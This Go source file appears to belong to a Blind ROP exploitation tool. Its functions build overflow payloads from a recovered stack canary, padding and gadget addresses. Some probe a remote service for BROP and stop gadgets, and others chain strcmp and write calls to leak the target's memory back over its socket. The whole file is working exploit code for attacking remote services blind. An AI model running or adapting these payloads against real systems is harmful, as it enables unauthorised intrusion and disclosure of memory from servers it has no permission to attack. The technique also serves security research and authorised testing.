// Package payload builds the raw byte strings sent to the target at
// every stage of discovery. Every builder here is a pure function over
// already-recovered values (overflow length, canary, padding, gadget
// addresses) rather than over the session that recovers them: the
// original client's payload builders reach back into the session object
// that owns them, which in Go would make this package and the session
// package import each other. Taking plain arguments instead keeps the
// dependency one-directional: session depends on payload, never the
// reverse.
package payload

import "github.com/voidspace-sec/brop/internal/cluster"

// CrashSentinel is the frame used as a return address deliberately chosen
// to fault rather than execute anything.
var CrashSentinel = cluster.FrameFromUint64(0xdead_beef_dead_beef)

// ThroughOverflow builds the payload that fills the buffer up to the
// overflow boundary without touching anything past it: overflowLength
// 'A' bytes.
func ThroughOverflow(overflowLength int) []byte {
	return append([]byte(nil), repeat('A', overflowLength)...)
}

// ThroughCanary extends ThroughOverflow with the recovered canary value,
// placed immediately after the overflow buffer.
func ThroughCanary(overflowLength int, canary cluster.Frame) []byte {
	p := ThroughOverflow(overflowLength)
	return cluster.Append(p, cluster.FrameCluster(canary))
}

// TillReturnAddress extends ThroughCanary with the saved-register padding
// that sits between the canary and the return address.
func TillReturnAddress(overflowLength int, canary cluster.Frame, padding cluster.Word) []byte {
	p := ThroughCanary(overflowLength, canary)
	return cluster.Append(p, cluster.WordCluster(padding))
}

// CraftBROPPayload lays a candidate gadget address at the return-address
// slot, followed by 6 crash frames, the stop gadget, then 5 more crash
// frames:
//
//	padding
//	candidate <- return addr
//	crash * 6
//	stop gadget
//	crash * 5
//
// If candidate is a true BROP gadget (pop*6; ret), it pops exactly the 6
// crash frames and returns into the stop gadget, producing Infinite.
// Anything else crashes on one of the 11 frames after it.
func CraftBROPPayload(overflowLength int, canary cluster.Frame, padding cluster.Word, stopGadget, candidate cluster.Gadget) []byte {
	p := TillReturnAddress(overflowLength, canary, padding)
	p = cluster.Append(p, cluster.FrameCluster(candidate.Frame()))
	for i := 0; i < 6; i++ {
		p = cluster.Append(p, cluster.FrameCluster(CrashSentinel))
	}
	p = cluster.Append(p, cluster.FrameCluster(stopGadget.Frame()))
	for i := 0; i < 5; i++ {
		p = cluster.Append(p, cluster.FrameCluster(CrashSentinel))
	}
	return p
}

// CraftStopCheckPayload is the first half of classifying a candidate as a
// BROP gadget: the candidate followed by 10 crash frames. A true BROP
// gadget pops six of them and returns into the seventh, so it crashes
// here. A stop gadget never returns and hangs instead (Infinite); a
// candidate that doesn't crash here is rejected, which keeps stop gadgets
// from passing the second, stop-gadget-terminated probe.
func CraftStopCheckPayload(overflowLength int, canary cluster.Frame, padding cluster.Word, candidate cluster.Gadget) []byte {
	p := TillReturnAddress(overflowLength, canary, padding)
	p = cluster.Append(p, cluster.FrameCluster(candidate.Frame()))
	for i := 0; i < 10; i++ {
		p = cluster.Append(p, cluster.FrameCluster(CrashSentinel))
	}
	return p
}

// CraftStrcmpPayload calls item(first, second) by loading first into rdi
// and second into rsi via bropGadget's pop-offsets, then returning into
// item with a crash sentinel as item's own return address:
//
//	padding
//	rdi gadget
//	first
//	rsi gadget
//	second
//	crash sentinel
//	item <- called with (first, second)
func CraftStrcmpPayload(overflowLength int, canary cluster.Frame, padding cluster.Word, item, bropGadget cluster.Gadget, first, second cluster.Frame) []byte {
	p := TillReturnAddress(overflowLength, canary, padding)
	p = cluster.Append(p, cluster.FrameCluster(bropGadget.ToRDIGadget().Frame()))
	p = cluster.Append(p, cluster.FrameCluster(first))
	p = cluster.Append(p, cluster.FrameCluster(bropGadget.ToRSIGadget().Frame()))
	p = cluster.Append(p, cluster.FrameCluster(second))
	p = cluster.Append(p, cluster.FrameCluster(CrashSentinel))
	p = cluster.Append(p, cluster.FrameCluster(item.Frame()))
	return p
}

// CraftWritePayload chains two calls: first strcmpGadget, with the rdi
// and rsi slots each followed by dumpLength 'A' bytes, for its side effect
// on rdx; then write(sock, dumpAddr, rdx), which leaks bytes starting at
// dumpAddr back down the same socket. No stack slot sets the write length
// directly; it is whatever the strcmp-like call left in rdx:
//
//	padding
//	rdi gadget, "A"*dumpLen, rsi gadget, "A"*dumpLen, crash sentinel, strcmp
//	rdi gadget, sock,        rsi gadget, dumpAddr,    crash sentinel, write
func CraftWritePayload(overflowLength int, canary cluster.Frame, padding cluster.Word, writeGadget, strcmpGadget, bropGadget cluster.Gadget, sock uint64, dumpLength int, dumpAddr cluster.Frame) []byte {
	p := TillReturnAddress(overflowLength, canary, padding)

	p = cluster.Append(p, cluster.FrameCluster(bropGadget.ToRDIGadget().Frame()))
	p = cluster.Append(p, cluster.WordCluster(cluster.Word(repeat('A', dumpLength))))
	p = cluster.Append(p, cluster.FrameCluster(bropGadget.ToRSIGadget().Frame()))
	p = cluster.Append(p, cluster.WordCluster(cluster.Word(repeat('A', dumpLength))))
	p = cluster.Append(p, cluster.FrameCluster(CrashSentinel))
	p = cluster.Append(p, cluster.FrameCluster(strcmpGadget.Frame()))

	p = cluster.Append(p, cluster.FrameCluster(bropGadget.ToRDIGadget().Frame()))
	p = cluster.Append(p, cluster.FrameCluster(cluster.FrameFromUint64(sock)))
	p = cluster.Append(p, cluster.FrameCluster(bropGadget.ToRSIGadget().Frame()))
	p = cluster.Append(p, cluster.FrameCluster(dumpAddr))
	p = cluster.Append(p, cluster.FrameCluster(CrashSentinel))
	p = cluster.Append(p, cluster.FrameCluster(writeGadget.Frame()))

	return p
}

func repeat(b byte, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}
